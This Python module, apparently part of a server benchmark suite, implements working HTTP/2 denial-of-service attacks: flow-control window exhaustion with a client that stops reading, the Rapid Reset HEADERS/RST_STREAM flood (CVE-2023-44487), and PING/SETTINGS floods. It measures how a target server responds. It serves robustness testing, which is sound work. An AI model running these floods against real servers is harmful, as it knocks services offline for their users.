"""HTTP/2 attacks of ``python -m bench attacks`` (cleartext, prior knowledge), written with the
h2 project's libraries over a raw socket: ``h2`` makes the connection preface and the flow
control of the window attack, ``hyperframe`` builds the flood frames and reads the server's.

* :func:`window`: a client opens the largest flow-control windows (2^31-1 for the connection
  and every stream), asks for big responses, reads their HEADERS and then never reads again;
  a server that writes whatever the windows allow without waiting for the socket buffers it
  all. After ``--hold`` seconds the client reads for at most ``--drain`` seconds to see what
  state the connection is in.
* :func:`rapid_reset`: HEADERS + RST_STREAM(CANCEL) pairs, as fast as the socket takes them,
  for ``--flood-seconds``, reading what comes back (CVE-2023-44487); the answer is the
  server's GOAWAY and its code, or none.
* :func:`flood`: PING or SETTINGS frames (each needs an ACK) as fast as possible for
  ``--flood-seconds`` by a client that never reads: a server that keeps reading queues ACKs
  without bound; one that stops reading (back-pressure) stalls the sender; the answer also
  names a GOAWAY found when the client finally reads.
"""

from __future__ import annotations

import argparse
import contextlib
import select
import socket
import time
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.settings
from h2.errors import ErrorCodes
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from bench.attacks_base import HOST, MIB, Outcome, Target

__all__ = ["flood", "rapid_reset", "window"]

MAX_WINDOW = 2**31 - 1
#: HPACK, static table only, no indexing: stateless, so one block serves every stream
#: (:method GET, :scheme http, :path /, :authority "bench")
_BLOCK = b"\x82\x86\x84\x01\x05bench"
_SETTINGS_ACK = SettingsFrame(0, flags=["ACK"]).serialize()


def _code(code: int) -> str:
    try:
        return f"{code} {ErrorCodes(code).name}"
    except ValueError:
        return str(code)


def _connect(
    port: int, rcvbuf: int | None = None
) -> tuple[socket.socket, h2.connection.H2Connection]:
    """A TCP connection (with a small receive buffer if asked, set before connecting so the
    window it advertises is small) and an h2 client that has sent its preface."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(5)
    try:
        sock.connect((HOST, port))
    except OSError:
        sock.close()
        raise
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


class _Frames:
    """Frames read from the server, parsed with hyperframe: counts, and the first GOAWAY."""

    def __init__(self) -> None:
        self.buffer = b""
        self.counts: dict[str, int] = {}
        self.goaway: str | None = None
        self.goaway_at: float | None = None
        self.settings = 0  # SETTINGS frames (not ACKs) still to acknowledge

    def feed(self, data: bytes, now: float) -> None:
        buffer = self.buffer + data if self.buffer else data
        offset = 0
        while len(buffer) - offset >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[offset : offset + 9]))
            end = offset + 9 + length
            if end > len(buffer):
                break
            name = type(frame).__name__
            self.counts[name] = self.counts.get(name, 0) + 1
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                frame.parse_body(memoryview(buffer[offset + 9 : end]))
                self.goaway, self.goaway_at = _code(frame.error_code), now
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.settings += 1
            offset = end
        self.buffer = buffer[offset:]


def _drain(sock: socket.socket, frames: _Frames, seconds: float, started: float) -> str:
    """Read for at most ``seconds``; how the connection ended ("closed", "reset", "open")."""
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            data = sock.recv(1 << 20)
        except TimeoutError:
            return "open"
        except ConnectionResetError:
            return "reset"
        except OSError as exc:
            return f"error {exc.errno}"
        if not data:
            return "closed"
        frames.feed(data, time.monotonic() - started)
    return "open"


# -- big responses to a client that stops reading -----------------------------------------------


def window(target: Target, options: argparse.Namespace, streams: int, size: int) -> Outcome:
    started = time.monotonic()
    sock, conn = _connect(target.port, options.client_rcvbuf)
    with sock:
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW})
        conn.increment_flow_control_window(MAX_WINDOW - 65535)
        headers = [
            (":method", "GET"),
            (":scheme", "http"),
            (":path", f"/big?size={size}"),
            (":authority", "bench"),
        ]
        for _ in range(streams):
            conn.send_headers(conn.get_next_available_stream_id(), headers, end_stream=True)
        sock.sendall(conn.data_to_send())
        statuses: dict[int, str] = {}
        ended: dict[int, str] = {}
        received = 0
        state = "open"
        first: float | None = None

        def read(deadline: float, until_headers: bool) -> str:
            nonlocal received, first
            while (left := deadline - time.monotonic()) > 0:
                if until_headers and len(statuses) + len(ended) >= streams:
                    return "open"
                sock.settimeout(left)
                try:
                    data = sock.recv(1 << 20)
                except TimeoutError:
                    return "open"
                except ConnectionResetError:
                    return "reset"
                if not data:
                    return "closed"
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = dict(event.headers).get(b":status", b"?").decode()
                        statuses[event.stream_id] = status
                        first = first if first is not None else time.monotonic() - started
                    elif isinstance(event, h2.events.DataReceived):
                        received += len(event.data)
                    elif isinstance(event, h2.events.StreamEnded):
                        ended[event.stream_id] = "complete"
                    elif isinstance(event, h2.events.StreamReset):
                        ended[event.stream_id] = f"reset {_code(event.error_code)}"
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        return f"GOAWAY {_code(event.error_code)}"
                with contextlib.suppress(OSError):
                    sock.sendall(conn.data_to_send())  # SETTINGS/PING ACKs
            return "open"

        state = read(time.monotonic() + 5, until_headers=True)
        got_headers = received
        if state == "open":
            time.sleep(options.hold)  # the client stops reading
            state = read(time.monotonic() + options.drain, until_headers=False)
    codes = sorted(set(statuses.values()))
    complete = sum(1 for how in ended.values() if how == "complete")
    resets = sorted({how for how in ended.values() if how != "complete"})
    if state == "open" and complete == streams:
        state = "complete"
    parts = [
        f"{'/'.join(codes) or 'no status'}",
        f"then {state}",
        f"{received / MIB:,.1f} of {streams * size / MIB:,.0f} MiB read",
    ]
    if resets:
        parts.append(", ".join(resets))
    details: dict[str, Any] = {
        "streams": streams,
        "size": size,
        "responses": len(statuses),
        "complete": complete,
        "resets": resets,
        "bytes_read": received,
        "bytes_read_before_stop": got_headers,
        "end": state,
    }
    return Outcome("; ".join(parts), first, details)


# -- rapid reset --------------------------------------------------------------------------------


def rapid_reset(target: Target, options: argparse.Namespace) -> Outcome:
    head = HeadersFrame(1, data=_BLOCK, flags=["END_HEADERS", "END_STREAM"]).serialize()
    rst = RstStreamFrame(1, error_code=ErrorCodes.CANCEL).serialize()
    pair_bytes = len(head) + len(rst)
    batch = 200
    frames = _Frames()
    started = time.monotonic()
    deadline = started + options.flood_seconds
    sock, _conn = _connect(target.port)
    sent = 0
    next_id = 1
    ended = "open"
    ended_at: float | None = None
    with sock:
        sock.setblocking(False)
        pending = b""
        while time.monotonic() < deadline and frames.goaway is None:
            if not pending:
                parts = []
                for stream_id in range(next_id, next_id + 2 * batch, 2):
                    sid = stream_id.to_bytes(4, "big")
                    parts += (head[:5], sid, head[9:], rst[:5], sid, rst[9:])
                next_id += 2 * batch
                if next_id >= MAX_WINDOW:  # stream ids are spent (not at today's rates)
                    break
                pending = b"".join(parts)
            readable, writable, _ = select.select([sock], [sock], [], 0.1)
            try:
                if readable:
                    data = sock.recv(1 << 20)
                    if not data:
                        ended, ended_at = "closed", time.monotonic() - started
                        break
                    frames.feed(data, time.monotonic() - started)
                    while frames.settings:
                        frames.settings -= 1
                        pending = _SETTINGS_ACK + pending
                if writable:
                    count = sock.send(pending)
                    sent += count
                    pending = pending[count:]
            except BlockingIOError:
                continue
            except (ConnectionResetError, BrokenPipeError):
                ended, ended_at = "reset", time.monotonic() - started
                break
        elapsed = time.monotonic() - started
        if frames.goaway is None and ended == "open":
            sock.setblocking(True)
            ended = _drain(sock, frames, 0.5, started)
    pairs = sent // pair_bytes
    responses = frames.counts.get("HeadersFrame", 0)
    counts = f"{pairs:,} pairs in {elapsed:.1f} s, {responses:,} answered"
    if frames.goaway is not None:
        answer = f"GOAWAY {frames.goaway} ({counts})"
    else:
        answer = f"no GOAWAY, {ended} ({counts})"
    details = {"pairs": pairs, "responses": responses, "frames": frames.counts, "end": ended}
    return Outcome(answer, frames.goaway_at or ended_at, details)


# -- PING / SETTINGS floods by a client that never reads -----------------------------------------


def flood(target: Target, options: argparse.Namespace, kind: str) -> Outcome:
    if kind == "ping":
        frame = PingFrame(0, opaque_data=b"towpath!").serialize()
    else:
        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    chunk = frame * 1000
    started = time.monotonic()
    deadline = started + options.flood_seconds
    sock, _conn = _connect(target.port, options.client_rcvbuf)
    sent = 0
    last_progress = started
    ended = "open"
    frames = _Frames()
    with sock:
        sock.setblocking(False)
        pending = chunk
        while (now := time.monotonic()) < deadline:
            _, writable, _ = select.select([], [sock], [], 0.1)
            if not writable:
                continue
            try:
                count = sock.send(pending)
            except BlockingIOError:
                continue
            except (ConnectionResetError, BrokenPipeError):
                ended = "reset"
                break
            sent += count
            last_progress = now
            pending = pending[count:] or chunk
        stalled = time.monotonic() - last_progress >= 1.0
        sock.setblocking(True)
        drained = _drain(sock, frames, options.drain, started)
    stop_at = last_progress - started
    if ended == "reset":
        send_state = f"reset after {stop_at:.1f} s"
    elif stalled:
        send_state = f"server stopped reading after {stop_at:.1f} s"
    else:
        send_state = "server read all"
    frames_sent = sent // len(frame)
    goaway = f"GOAWAY {frames.goaway}" if frames.goaway else "no GOAWAY"
    answer = f"{goaway}; {send_state} ({frames_sent:,} sent, then {drained})"
    details = {
        "frames_sent": frames_sent,
        "bytes_sent": sent,
        "send_state": send_state,
        "frames_read": frames.counts,
        "end": drained,
    }
    return Outcome(answer, stop_at if ended == "reset" or stalled else None, details)
